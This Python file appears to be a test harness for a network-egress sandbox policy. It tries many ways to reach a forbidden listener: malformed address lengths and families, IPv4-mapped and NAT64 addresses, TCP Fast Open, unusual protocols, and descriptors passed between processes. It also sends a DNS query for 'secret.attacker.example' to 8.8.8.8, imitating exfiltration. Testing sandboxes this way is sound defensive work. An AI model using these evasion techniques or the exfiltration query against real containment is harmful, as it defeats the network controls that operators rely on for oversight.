"""Reach a listener that the policy does not name, with every kind of socket and of address.

Arguments: its IPv4 address and its port (UDP and TCP); the port is another's on 127.0.0.1 and ::1.
With a third one more is tried for which the kernel itself would take long: addresses with no way
to them, and all kinds of sockets.
"""

import array
import ctypes
import errno
import ipaddress
import os
import select
import socket
import struct
from collections.abc import Callable, Iterator

from .attempt import arguments, attempt, call

MSG_FASTOPEN, TCP_FASTOPEN_CONNECT, SECONDS = 0x20000000, 30, 5
MPTCP, SCTP, UDP_LITE, DCCP, SMC = 262, 132, 136, 33, 256
QUERY = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"\6secret\10attacker\7example\0" + b"\0\1\0\1"
UNSPECIFIED = bytes(16)
_libc = ctypes.CDLL(None, use_errno=True)

Made = tuple[str, Callable[[], object]]


def packed4(host: str, port: int, family: int = socket.AF_INET) -> bytes:
    return struct.pack("=H2s4s8x", family, port.to_bytes(2, "big"), socket.inet_aton(host))


def packed6(host: str, port: int, family: int = socket.AF_INET6, scope: int = 0) -> bytes:
    address = ipaddress.IPv6Address(host).packed
    return struct.pack("=H2sI16sI", family, port.to_bytes(2, "big"), 0, address, scope)


def connect(sock: socket.socket, address: bytes, length: int | None = None) -> object:
    """connect(2) with an address of any length, and its outcome. Says who the peer is."""
    size = len(address) if length is None else length
    buffer = ctypes.create_string_buffer(address, max(len(address), 256))
    try:
        call("connect", sock.fileno(), buffer, size)
    except BlockingIOError:
        if not select.select([], [sock], [], SECONDS)[1]:
            raise OSError(errno.ETIMEDOUT, "it waits") from None
        error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if error:
            raise OSError(error, os.strerror(error)) from None
    return sock.getpeername()


def reach(
    family: int, address: bytes, length: int | None = None, *, protocol: int = 0, flags: int = 0
) -> object:
    with socket.socket(family, socket.SOCK_STREAM | flags, protocol) as sock:
        return connect(sock, address, length)


def literal(host: str, port: int) -> Iterator[Made]:
    """TCP to an address as it is, and as an IPv6 socket may write it."""
    four, mapped = packed4(host, port), packed6(f"::ffff:{host}", port)
    for flags, how in ((0, "waiting"), (socket.SOCK_NONBLOCK, "not waiting")):
        yield f"IPv4, {how}", lambda f=flags: reach(socket.AF_INET, four, flags=f)
        yield f"mapped, {how}", lambda f=flags: reach(socket.AF_INET6, mapped, flags=f)
    for length in (0, 1, 2, 8, 15, 17, 28, 127, 128, 129, -1, 1 << 32 | 16):
        yield (
            f"IPv4, {length} bytes",
            lambda n=length: reach(socket.AF_INET, four.ljust(128, b"\0"), n),
        )
    for length in (16, 23, 24, 27, 29, 128, 129):
        yield (
            f"mapped, {length} bytes",
            lambda n=length: reach(socket.AF_INET6, mapped.ljust(128, b"\0"), n),
        )
    for family in (0, 1, 3, 10, 16, 17, 40, 0x202, 0xFFFF):
        wrong = packed4(host, port, family)
        yield f"family {family}", lambda w=wrong: reach(socket.AF_INET, w)
    for length in (16, 24, 28):
        yield (
            f"IPv4 for IPv6, {length} bytes",
            lambda n=length: reach(socket.AF_INET6, four.ljust(28, b"\0"), n),
        )
    yield "IPv6 for IPv4", lambda: reach(socket.AF_INET, mapped)
    yield "scope", lambda: reach(socket.AF_INET6, packed6(f"::ffff:{host}", port, scope=1))
    yield "TCP by number", lambda: reach(socket.AF_INET, four, protocol=socket.IPPROTO_TCP)
    yield "bound before", lambda: bound(socket.AF_INET, "127.0.0.1", four)
    yield "again", lambda: again(four)


def carried(host: str, port: int) -> Iterator[Made]:
    """TCP to IPv6 addresses that carry an IPv4 address."""
    high, low = divmod(int(ipaddress.IPv4Address(host)), 1 << 16)
    for address in (
        *(f"::{host}", f"64:ff9b::{host}", f"::ffff:0:{host}"),
        *(f"64:ff9b:1::{host}", f"2002:{high:x}:{low:x}::1"),
    ):
        yield address, lambda a=address: reach(socket.AF_INET6, packed6(a, port))


def bound(family: int, source: str, address: bytes) -> object:
    """From a chosen address. What is unspecified then means that address to the kernel."""
    with socket.socket(family) as sock:
        sock.bind((source, 0))
        return connect(sock, address)


def again(address: bytes) -> object:
    """After a refusal, and after a connection to ourselves that was given up."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket() as sock:
        sock.connect(server.getsockname())
        assert _libc.connect(sock.fileno(), UNSPECIFIED, 16) == 0
        assert sock.connect_ex(("127.0.0.1", 1)) == errno.ECONNREFUSED
        return connect(sock, address)


def beside_ours(host: str, port: int) -> Iterator[Made]:
    """A server of ours has the port too, at an address that nobody else has it at."""
    every6, every4 = packed6("::", port), packed6("::ffff:0.0.0.0", port)
    for name, family, ours, source, address in (
        ("IPv4", socket.AF_INET, "127.0.0.77", host, packed4("0.0.0.0", port)),
        ("IPv4, not bound", socket.AF_INET, "127.0.0.77", None, packed4("0.0.0.0", port)),
        ("mapped", socket.AF_INET6, "127.0.0.77", f"::ffff:{host}", every4),
        ("::, mapped", socket.AF_INET6, "::ffff:127.0.0.77", f"::ffff:{host}", every6),
        ("::, loopback", socket.AF_INET6, "127.0.0.77", "::1", every6),
    ):

        def attack(
            f: int = family, o: str = ours, s: str | None = source, a: bytes = address
        ) -> object:
            with socket.create_server(
                (o, port), family=socket.AF_INET6 if ":" in o else socket.AF_INET
            ):
                return reach(f, a) if s is None else bound(f, s, a)

        yield f"beside ours, {name}", attack


def fast_open(host: str, port: int) -> Iterator[Made]:
    """Connecting by sending."""
    where = packed4(host, port)
    name = ctypes.create_string_buffer(where, 16)
    data = ctypes.create_string_buffer(b"fast")
    vector = struct.pack("=QQ", ctypes.addressof(data), 4)
    iov = ctypes.create_string_buffer(vector, 16)
    header = struct.pack(
        "=QI4xQQQQi4x", ctypes.addressof(name), 16, ctypes.addressof(iov), 1, 0, 0, 0
    )
    messages = ctypes.create_string_buffer(header + bytes(8), 64)
    for high in (0, 1 << 32, 0xFFFFFFFF << 32):
        flags = MSG_FASTOPEN | high
        yield (
            f"sendto {high:x}",
            lambda f=flags: call("sendto", socket.socket().detach(), b"fast", 4, f, where, 16),
        )
        yield (
            f"sendmsg {high:x}",
            lambda f=flags: call("sendmsg", socket.socket().detach(), messages, f),
        )
        yield (
            f"sendmmsg {high:x}",
            lambda f=flags: call("sendmmsg", socket.socket().detach(), messages, 1, f),
        )
        option = socket.IPPROTO_TCP | high, TCP_FASTOPEN_CONNECT | high
        yield (
            f"TCP_FASTOPEN_CONNECT {high:x}",
            lambda o=option: call(
                "setsockopt", socket.socket().detach(), *o, struct.pack("=i", 1), 4
            ),
        )
    # Without the flag, an address on a stream socket means nothing.
    yield (
        "sendto, no flag",
        lambda: call("sendto", socket.socket().detach(), b"fast", 4, 0, where, 16),
    )
    yield "sendmsg, no flag", lambda: call("sendmsg", socket.socket().detach(), messages, 0)


def datagrams(host: str, port: int) -> Iterator[Made]:
    six = f"::ffff:{host}"
    for protocol in (0, socket.IPPROTO_UDP, UDP_LITE):
        for kind in (
            socket.SOCK_DGRAM,
            socket.SOCK_DGRAM | socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK,
        ):
            for family, where in ((socket.AF_INET, (host, port)), (socket.AF_INET6, (six, port))):
                name = f"datagram {protocol} {kind:x} {family}"
                made = (family, kind, protocol)
                yield f"{name} sendto", lambda m=made, w=where: socket.socket(*m).sendto(QUERY, w)
                yield (
                    f"{name} sendmsg",
                    lambda m=made, w=where: socket.socket(*m).sendmsg([QUERY], [], 0, w),
                )
                yield f"{name} connect", lambda m=made, w=where: connected(m, w)
    yield (
        "DNS at 127.0.0.1",
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(QUERY, ("127.0.0.1", 53)),
    )
    yield (
        "DNS at 8.8.8.8",
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(QUERY, ("8.8.8.8", 53)),
    )
    yield "a pair", lambda: socket.socketpair(socket.AF_INET, socket.SOCK_DGRAM)


def connected(made: tuple[int, int, int], where: tuple[str, int]) -> object:
    with socket.socket(*made) as sock:
        sock.connect(where)
        return sock.send(QUERY)


def other_protocols(host: str, port: int) -> Iterator[Made]:
    four, six = packed4(host, port), packed6(f"::ffff:{host}", port)
    for protocol in (MPTCP, SCTP, DCCP, SMC, SMC + 1, 1 << 32 | MPTCP):
        yield f"stream {protocol}", lambda p=protocol: stream(socket.AF_INET, p, four)
        yield f"IPv6 stream {protocol}", lambda p=protocol: stream(socket.AF_INET6, p, six)


def stream(family: int, protocol: int, address: bytes) -> object:
    fd = call("socket", family, socket.SOCK_STREAM, protocol)
    return call("connect", fd, address, len(address))


def sockets() -> list[tuple[int, int, int]]:
    """Every kind of socket that one can get, by trying them all."""
    found = []
    for family in range(64):
        for kind in range(16):
            for protocol in (0, 1, 2, 4, 6, 16, 17, 58, 132, 136, 255, 256, 262, 768):
                try:
                    os.close(call("socket", family | 1 << 33, kind, protocol))
                except OSError:
                    continue
                found.append((family, kind, protocol))
    return found


def received(host: str, port: int) -> Iterator[Made]:
    """The same open socket by other descriptors."""
    for name, copied in (("dup", os.dup), ("sent", sent)):
        yield f"by {name}", lambda c=copied: copy(c, packed4(host, port))
    yield "by a child", lambda: by_a_child(packed4(host, port))


def copy(copied: Callable[[int], int], address: bytes) -> object:
    with socket.socket() as sock, socket.socket(fileno=copied(sock.fileno())) as same:
        return connect(same, address)


def sent(fd: int) -> int:
    ours, theirs = socket.socketpair()
    ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
    _, [(_, _, data)], _, _ = theirs.recvmsg(1, 64)
    return int.from_bytes(data[:4], "little")


def by_a_child(address: bytes) -> object:
    with socket.socket() as sock:
        child = os.fork()
        if child == 0:
            os._exit(_libc.connect(sock.fileno(), address, 16) != 0)
        if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
            raise OSError(errno.ECONNREFUSED, "refused")
        return sock.getpeername()


def main() -> None:
    host, text, *everything = arguments()
    port = int(text)
    for name, attack in literal(host, port):
        attempt(f"literal: {name}", attack)
    for local in ("127.0.0.1", "0.0.0.0"):
        attempt(f"local: {local}", lambda a=packed4(local, port): reach(socket.AF_INET, a))
    for local in ("::1", "::", "::ffff:127.0.0.1", "::ffff:0.0.0.0", "::127.0.0.1"):
        attempt(f"local: {local}", lambda a=packed6(local, port): reach(socket.AF_INET6, a))
    for attacks in (beside_ours, fast_open, datagrams, other_protocols, received):
        for name, attack in attacks(host, port):
            attempt(f"{attacks.__name__}: {name}", attack)
    if everything:
        for name, attack in carried(host, port):
            attempt(f"carried: {name}", attack)
        print("sockets", sockets(), sep="\t")


if __name__ == "__main__":
    main()
